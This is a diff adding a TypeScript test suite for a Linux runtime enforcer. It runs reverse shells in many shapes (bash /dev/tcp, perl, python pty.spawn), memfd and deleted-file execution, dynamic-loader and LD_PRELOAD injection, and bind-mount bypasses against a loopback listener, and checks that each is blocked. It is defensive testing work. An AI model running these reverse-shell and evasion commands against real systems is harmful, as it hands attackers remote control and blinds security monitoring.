@@ -1,0 +1,355 @@
+// Attacks no other test lists (REDTEAM.md): reverse shells in their common shapes, fileless and
+// loader execs, drift through copies, chmod, scripts and the loader's environment, and the
+// application lowering the enforcer's own resource limits to blind it. Each blocked attack sits
+// next to a legitimate neighbour that still works. Only 127.0.0.1 and ::1 are used.
+
+import { spawnSync } from "node:child_process";
+import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer } from "node:net";
+import type { Server } from "node:net";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { expectExit, validateEventsAfterEach } from "./helpers/assert.js";
+import { blockedExecs, describeExecs } from "./helpers/events.js";
+import { ARCH, ENFORCER, LOADER, ensureBuilt, probe } from "./helpers/paths.js";
+import { runEnforcer } from "./helpers/run.js";
+import type { Mechanism, RunResult } from "./helpers/run.js";
+import { makeTempDir } from "./helpers/tmp.js";
+import type { TempDir } from "./helpers/tmp.js";
+
+validateEventsAfterEach();
+
+const PYTHON = "/usr/bin/python3";
+const LIBM = `/lib/${ARCH === "arm64" ? "aarch64" : "x86_64"}-linux-gnu/libm.so.6`;
+const POLICY = ["vigil-policy 1", "exec.drift block", "exec.fileless block", "exec.loader block", "exec.reverseShell block", "end", ""].join("\n");
+
+/** A loopback "attacker": sends one line of commands to whoever connects, records what comes back. */
+interface Attacker {
+  port: number;
+  received(): string;
+  close(): Promise<void>;
+}
+
+async function attacker(host: string): Promise<Attacker> {
+  const chunks: Buffer[] = [];
+  const server: Server = createServer((socket) => {
+    socket.on("data", (b: Buffer) => chunks.push(b));
+    socket.on("error", () => undefined);
+    // an external program (not a shell builtin) proves that the shell runs commands
+    socket.write("/bin/echo SHELL-$((6*7)); exit\n");
+  });
+  await new Promise<void>((resolve, reject) => {
+    server.once("error", reject);
+    server.listen(0, host, () => resolve());
+  });
+  const address = server.address();
+  if (address === null || typeof address === "string") throw new Error("attacker listener has no port");
+  return {
+    port: address.port,
+    received: () => Buffer.concat(chunks).toString("latin1"),
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.close(() => resolve());
+      }),
+  };
+}
+
+let tmp: TempDir;
+beforeAll(() => {
+  ensureBuilt();
+  tmp = makeTempDir("unlisted");
+  // made before the enforcer starts: part of the "image", not drift
+  copyFileSync("/bin/true", tmp.join("old-true"));
+  copyFileSync("/bin/echo", tmp.join("old-echo")); // outside every allow glob
+  mkdirSync(tmp.join("relay"));
+  copyFileSync("/bin/bash", tmp.join("relay/socat")); // stands for socat exec:sh / gawk |& getline: a relay holding the connection
+  chmodSync(tmp.join("old-true"), 0o755);
+  writeFileSync(tmp.join("old-script"), "#!/bin/sh\necho old-script-ran\n", { mode: 0o755 });
+  writeFileSync(tmp.join("not-yet-executable"), "#!/bin/sh\necho chmod-ran\n", { mode: 0o644 });
+  copyFileSync(LIBM, tmp.join("old.so"));
+  mkdirSync(tmp.join("oldlib"));
+  copyFileSync(LIBM, tmp.join("oldlib/libm.so.6"));
+});
+afterAll(() => tmp?.remove());
+
+const bash = (mechanism: Mechanism, script: string, timeoutMs = 20_000): Promise<RunResult> =>
+  runEnforcer({ mechanism, policy: POLICY, command: ["bash", "-c", script], cwd: tmp.path, timeoutMs });
+
+function expectBlockedBy(r: RunResult, rule: string, count = 1): void {
+  const blocked = blockedExecs(r.events);
+  expect(blocked.length, describeExecs(r.events)).toBeGreaterThanOrEqual(count);
+  expect(blocked.every((e) => e.rule === rule), describeExecs(r.events)).toBe(true);
+}
+
+describe.each(["seccomp", "landlock"] as const)("reverse shells, mechanism %s", (mechanism) => {
+  const shapes: [string, (port: number) => string][] = [
+    ["bash -i >& /dev/tcp", (p) => `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1'`],
+    ["exec 3<>/dev/tcp; sh <&3 >&3 2>&3", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; sh <&3 >&3 2>&3`],
+    [
+      "perl: socket dup'ed onto STDIN/STDOUT, then exec /bin/sh",
+      (p) =>
+        `perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${p}, inet_aton("127.0.0.1"))) or die; ` +
+        `open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i")'`,
+    ],
+    // new: the shell redirects itself (no exec after the dup): every external command it runs is refused
+    ["exec 3<>/dev/tcp; exec 0<&3 1>&3 2>&3; read-eval loop", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; exec 0<&3 1>&3 2>&3; while read l; do eval "$l"; done`],
+    ["exec 3<>/dev/tcp; eval loop on fd 3", (p) => `exec 3<>/dev/tcp/127.0.0.1/${p}; while read l <&3; do eval "$l" >&3 2>&3; done`],
+    // new: the shell's stdio is a terminal; its parent (python) holds the socket on its stdio
+    [
+      "python pty.spawn after dup2",
+      (p) =>
+        `${PYTHON} -c 'import socket,os,pty; s=socket.create_connection(("127.0.0.1",${p})); ` +
+        `[os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn("/bin/sh")'`,
+    ],
+    // new: /proc/net/tcp grown past the enforcer's old 256 KiB read by 2500 listening sockets
+    [
+      "bash -i >& /dev/tcp behind 2500 listening sockets",
+      (p) =>
+        `ulimit -n 4096; ${PYTHON} -c 'import socket,os
+ss=[socket.socket() for i in range(2500)]
+for s in ss: s.bind(("127.0.0.1",0)); s.listen(1)
+os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
+    ],
+  ];
+
+  test.each(shapes)("%s: refused, the attacker gets no command run", async (_name, command) => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(mechanism, command(a.port));
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+
+  test("a relay (socat, awk) holding the connection and starting the commands: refused", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(mechanism, `${tmp.join("relay/socat")} -c 'exec 5<>/dev/tcp/127.0.0.1/${a.port}; read -r l <&5; eval "$l" >&5 2>&5'`);
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+
+  test("UDP and IPv6 forms are refused too", async () => {
+    const a6 = await attacker("::1");
+    try {
+      const r = await bash(mechanism, `bash -c 'sh -i >& /dev/udp/127.0.0.1/9 0>&1'; bash -c 'bash -i >& /dev/tcp/::1/${a6.port} 0>&1'; exit 0`);
+      expectBlockedBy(r, "exec.reverseShell", 2);
+      expect(a6.received()).not.toContain("SHELL-42");
+    } finally {
+      await a6.close();
+    }
+  });
+
+  test("neighbours: pipelines, a shell on a UNIX socketpair, a program holding a TCP connection that runs sh", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await bash(
+        mechanism,
+        `echo pipe | cat | tr a-z A-Z; ${PYTHON} -c 'import socket,subprocess
+a,b=socket.socketpair(); subprocess.run(["sh","-c","echo unix-ok"],stdout=a); print(b.recv(99).decode().strip(), flush=True)
+c=socket.create_connection(("127.0.0.1",${a.port})); subprocess.run(["sh","-c","/bin/echo conn-ok"])'`,
+      );
+      expectExit(r, 0);
+      expect(r.stdout.split("\n")).toEqual(["PIPE", "unix-ok", "conn-ok", ""]);
+      expect(blockedExecs(r.events)).toEqual([]);
+    } finally {
+      await a.close();
+    }
+  });
+});
+
+describe("the enforcer's resource limits are not the application's to change", () => {
+  test("prlimit on the enforcer (RLIMIT_NOFILE 0, RLIMIT_CPU 1 s) is refused; the reverse shell after it still is", async () => {
+    const a = await attacker("127.0.0.1");
+    try {
+      // bash is the enforcer's child: $PPID is the enforcer
+      const r = await bash(
+        "seccomp",
+        `prlimit --pid $PPID --nofile=0:0 2>/dev/null; echo "nofile=$?"; prlimit --pid $PPID --cpu=1:1 2>/dev/null; echo "cpu=$?"; ` +
+          `prlimit --pid $$ --nofile=512:512; echo "self=$?"; bash -c 'bash -i >& /dev/tcp/127.0.0.1/${a.port} 0>&1'; exit 0`,
+      );
+      expect(r.stdout).toMatch(/^nofile=1$/m);
+      expect(r.stdout).toMatch(/^cpu=1$/m);
+      expect(r.stdout).toMatch(/^self=0$/m); // the neighbour: a process still sets its own limits
+      expectBlockedBy(r, "exec.reverseShell");
+      expect(a.received()).not.toContain("SHELL-42");
+    } finally {
+      await a.close();
+    }
+  });
+});
+
+describe.each(["seccomp", "landlock"] as const)("fileless, loader and drift, mechanism %s", (mechanism) => {
+  test("memfd, O_TMPFILE and deleted files run by descriptor are refused; an image file by descriptor runs", async () => {
+    const py = (body: string): string => `${PYTHON} -c 'import os; data=open("/bin/true","rb").read()\n${body}'`;
+    const r = await bash(
+      mechanism,
+      [
+        py('fd=os.memfd_create("x"); os.write(fd,data); os.execv(f"/proc/self/fd/{fd}",["memfd"])'),
+        `echo "memfd=$?"`,
+        py(`fd=os.open(".",os.O_TMPFILE|os.O_RDWR,0o755); os.write(fd,data); ro=os.open(f"/proc/self/fd/{fd}",os.O_RDONLY); os.close(fd); os.execve(ro,["tmpfile"],{})`),
+        `echo "tmpfile=$?"`,
+        py(`w=os.open("gone",os.O_CREAT|os.O_WRONLY,0o755); os.write(w,data); os.close(w); ro=os.open("gone",os.O_RDONLY); os.unlink("gone"); os.execve(ro,["deleted"],{})`),
+        `echo "deleted=$?"`,
+        `${PYTHON} -c 'import os; os.execve(os.open("old-true",os.O_RDONLY),["by-fd"],{})'`,
+        `echo "image-by-fd=$?"`,
+      ].join("\n"),
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["memfd=126", "tmpfile=126", "deleted=126", "image-by-fd=0"]);
+    expectBlockedBy(r, "exec.fileless", 3);
+  });
+
+  // new: a memfd named "a/b" is shown as /memfd:a/b (deleted), which `/memfd:*` did not match
+  test("exec.deny /memfd:* alone refuses a memfd whatever its name, slashes included; /bin/true runs", async () => {
+    const r = await runEnforcer({
+      mechanism,
+      policy: ["vigil-policy 1", "exec.deny /memfd:*", "end", ""].join("\n"),
+      command: ["bash", "-c", ["plain", "a/b", "/usr/bin/true"].map((name) =>
+        `${PYTHON} -c 'import os; fd=os.memfd_create("${name}"); os.write(fd,open("/bin/true","rb").read()); os.execv(f"/proc/self/fd/{fd}",["x"])'; echo "${name}=$?"`).join("; ") + "; /bin/true; echo true=$?"],
+      cwd: tmp.path,
+    });
+    expect(r.stdout.trim().split("\n")).toEqual(["plain=126", "a/b=126", "/usr/bin/true=126", "true=0"]);
+    expectBlockedBy(r, "exec.deny[0]", 3);
+  });
+
+  test("the dynamic loader as a program is refused, with or without options; programs using it as their interpreter run", async () => {
+    const r = await bash(
+      mechanism,
+      `${LOADER} /bin/true; echo "plain=$?"; ${LOADER} --argv0 x --library-path /nowhere /bin/true; echo "options=$?"; ` +
+        `${LOADER} --list /bin/true >/dev/null; echo "list=$?"; /bin/true; echo "normal=$?"`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["plain=126", "options=126", "list=126", "normal=0"]);
+    expectBlockedBy(r, "exec.loader", 3);
+  });
+
+  test("drift: a copy of an allowed program, chmod +x of an old file, a new #! script; the image's own run", async () => {
+    const r = await bash(
+      mechanism,
+      `cp /bin/true copy; ./copy; echo "copy=$?"; chmod +x not-yet-executable; ./not-yet-executable; echo "chmod=$?"; ` +
+        `printf '#!/bin/sh\\necho new-script-ran\\n' > new-script; chmod +x new-script; ./new-script; echo "script=$?"; ` +
+        `./old-true; echo "old=$?"; ./old-script`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["copy=126", "chmod=126", "script=126", "old=0", "old-script-ran"]);
+    expectBlockedBy(r, "exec.drift", 3);
+  });
+
+  // new: a #! script run through a descriptor was not judged at all (AT_EXECFN /dev/fd/N)
+  test("drift: a new #! script run as /dev/fd/9, /proc/self/fd/9, a symlink to it, or deleted, is refused; an old one runs so", async () => {
+    const r = await bash(
+      mechanism,
+      `printf '#!/bin/sh\\necho NEW\\n' > fd.sh; chmod +x fd.sh; exec 9< fd.sh; /dev/fd/9; echo "devfd=$?"; /proc/self/fd/9; echo "procself=$?"; ` +
+        `ln -s /proc/self/fd/9 link; ./link; echo "link=$?"; exec 8< fd.sh; rm fd.sh; /dev/fd/8; echo "deleted=$?"; exec 7< old-script; /dev/fd/7`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["devfd=126", "procself=126", "link=126", "deleted=126", "old-script-ran"]);
+    expectBlockedBy(r, "exec.drift", 4);
+  });
+
+  // new: a dropped script handed to an interpreter as its argument, not run through #!
+  test("drift: a new script given to sh, bash --rcfile, python3 -W, perl -I, busybox sh is refused; old scripts and -c commands run", async () => {
+    const r = await bash(
+      mechanism,
+      `printf 'echo NEW\\n' > new.sh; printf 'print("NEW")\\n' > new.py; ` +
+        `sh new.sh; echo "sh=$?"; bash --rcfile new.sh -i </dev/null 2>/dev/null; echo "rcfile=$?"; ${PYTHON} -W ignore new.py; echo "python=$?"; ` +
+        `perl -I /nowhere new.sh; echo "perl=$?"; busybox sh -- new.sh; echo "busybox=$?"; ` +
+        // options that push the script name past what the enforcer reads of the command line
+        `for k in 3637 3638 3639 3640; do sh $(printf -- '-o posix %.0s' $(seq $k)) new.sh; echo "cut=$?"; done; ` +
+        `sh old-script; sh -c 'echo command-ok' new.sh; ${PYTHON} -c 'print("py-command-ok")' new.py`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual(["sh=126", "rcfile=126", "python=126", "perl=126", "busybox=126", "cut=126", "cut=126", "cut=126", "cut=126", "old-script-ran", "command-ok", "py-command-ok"]);
+    expectBlockedBy(r, "exec.drift", 9);
+  });
+
+  // new: the loader's environment names code that appeared after the start
+  test("drift: LD_PRELOAD, LD_AUDIT and LD_LIBRARY_PATH naming new code are refused, even behind 100 KiB of other variables; old ones run", async () => {
+    const pad = Array.from({ length: 100 }, (_, i) => `PAD${i}=${"x".repeat(1000)}`).join(" ");
+    const r = await bash(
+      mechanism,
+      `cp ${LIBM} new.so; mkdir newlib; cp ${LIBM} newlib/libm.so.6; ` +
+        `LD_PRELOAD=$PWD/new.so /bin/true; echo "preload=$?"; LD_PRELOAD=./new.so /bin/true; echo "relative=$?"; ` +
+        `LD_AUDIT=$PWD/new.so /bin/true 2>/dev/null; echo "audit=$?"; LD_LIBRARY_PATH=/usr/lib:$PWD/newlib /bin/true; echo "libpath=$?"; ` +
+        `env ${pad} LD_PRELOAD=$PWD/new.so /bin/true; echo "padded=$?"; ` +
+        `LD_PRELOAD=$PWD/old.so /bin/true; echo "old-preload=$?"; LD_LIBRARY_PATH=$PWD/oldlib /bin/true; echo "old-libpath=$?"; ` +
+        // relative and empty (= working directory) elements, a dynamic string token
+        `LD_LIBRARY_PATH=newlib /bin/true; echo "relative-dir=$?"; mkdir work; cd work; echo log > app.log; LD_LIBRARY_PATH=/usr/lib: /bin/true; echo "cwd-new-log=$?"; ` +
+        `cp ../new.so libm.so.6; LD_LIBRARY_PATH=/usr/lib: /bin/true; echo "cwd-new-lib=$?"; cd ..; LD_LIBRARY_PATH='$ORIGIN/x' /bin/true; echo "origin=$?"`,
+    );
+    expect(r.stdout.trim().split("\n")).toEqual([
+      "preload=126",
+      "relative=126",
+      "audit=126",
+      "libpath=126",
+      "padded=126",
+      "old-preload=0",
+      "old-libpath=0",
+      "relative-dir=126",
+      "cwd-new-log=0",
+      "cwd-new-lib=126",
+      "origin=126",
+    ]);
+    expectBlockedBy(r, "exec.drift", 8);
+  });
+});
+
+// new: in a mount namespace of its own (where user namespaces are allowed, as on this machine) a
+// bind mount gives any file any path: the path /proc/PID/exe gives is the bind mount's, and a
+// read-only file is written through a path no glob names
+const USERNS = spawnSync("unshare", ["-Urm", "true"]).status === 0;
+describe.skipIf(!USERNS)("private mount namespaces", () => {
+  test("enforce mode: unshare -Urm and mount are refused (EPERM); the application's own writes and execs go on", async () => {
+    const r = await runEnforcer({
+      mechanism: "seccomp",
+      policy: ["vigil-policy 1", "exec.allow /usr/bin/*", "exec.allow /bin/*", "exec.allow /usr/sbin/*", "end", ""].join("\n"),
+      command: ["bash", "-c", `unshare -Urm true 2>/dev/null; echo "unshare=$?"; unshare -U true 2>/dev/null; echo "userns=$?"; echo ok > own; cat own; /bin/true; echo "exec=$?"`],
+      cwd: tmp.path,
+    });
+    expect(r.stdout.trim().split("\n")).toEqual(["unshare=1", "userns=1", "ok", "exec=0"]);
+  });
+
+  test("without Landlock (as on Fargate): no bind mount writes a read-only file; writes elsewhere work", async () => {
+    mkdirSync(tmp.join("ro"), { recursive: true });
+    writeFileSync(tmp.join("ro/f"), "original\n");
+    mkdirSync(tmp.join("mnt"), { recursive: true });
+    const r = await runEnforcer({
+      enforcer: probe("no-landlock"),
+      env: { NO_LANDLOCK_EXEC: ENFORCER },
+      policy: ["vigil-policy 1", `files.readOnly ${tmp.join("ro")}/**`, "exec.deny /nonexistent", "end", ""].join("\n"),
+      command: ["bash", "-c", `unshare -Urm sh -c 'mount --bind ${tmp.join("ro")} ${tmp.join("mnt")} && echo changed > ${tmp.join("mnt/f")}' 2>/dev/null; echo "bind=$?"; echo mine > own; cat own`],
+      cwd: tmp.path,
+    });
+    const start = r.events.find((e) => e.kind === "lifecycle" && e.event === "start");
+    expect(start?.kind === "lifecycle" && start.event === "start" ? start.mechanisms.files : undefined).toBe("ptrace");
+    expect(r.stdout.trim().split("\n")).toEqual(["bind=1", "mine"]);
+    expect(readFileSync(tmp.join("ro/f"), "utf8")).toBe("original\n");
+  });
+
+  test("audit mode (namespaces allowed): a program outside the allow list bind-mounted over an allowed path is reported (exec.path)", async () => {
+    const r = await runEnforcer({
+      mechanism: "seccomp",
+      policy: ["vigil-policy 1", "mode audit", "exec.allow /usr/bin/*", "exec.allow /bin/*", "exec.allow /usr/sbin/*", "end", ""].join("\n"),
+      command: ["unshare", "-Urm", "sh", "-c", `/usr/bin/true; echo "legit=$?"; mount --bind ${tmp.join("old-echo")} /usr/bin/true && /usr/bin/true bound`],
+      cwd: tmp.path,
+    });
+    expect(r.stdout.trim().split("\n")).toEqual(["legit=0", "bound"]);
+    const alerts = r.events.filter((e) => e.kind === "exec" && e.verdict === "alert");
+    expect(alerts.map((e) => (e.kind === "exec" ? `${e.rule} ${e.exe}` : "")), describeExecs(r.events)).toEqual(["exec.path /usr/bin/true"]);
+  });
+});
+
+// new: the enforcer's configuration was handed down to the application, policy included
+test("the application does not see VIGIL_POLICY (perhaps an ECS secret) or the other VIGIL_* settings; its own variables stay", async () => {
+  const r = await runEnforcer({
+    mechanism: "seccomp",
+    env: { VIGIL_POLICY: POLICY, VIGIL_MECHANISM: "seccomp", VIGIL_AUDIT: "0", APP_SETTING: "kept" },
+    command: ["bash", "-c", `env | grep '^VIGIL_' | grep -v '^VIGIL_TEST_RUN=' | wc -l; echo "$APP_SETTING"; cp /bin/true copy2; ./copy2; echo "drift=$?"`],
+    cwd: tmp.path,
+  });
+  expect(r.stdout.trim().split("\n")).toEqual(["0", "kept", "drift=126"]); // the policy still applies
+});
+
+test("the test's own inputs exist", () => {
+  expect(existsSync(PYTHON) && existsSync(LIBM) && existsSync(LOADER)).toBe(true);
+});
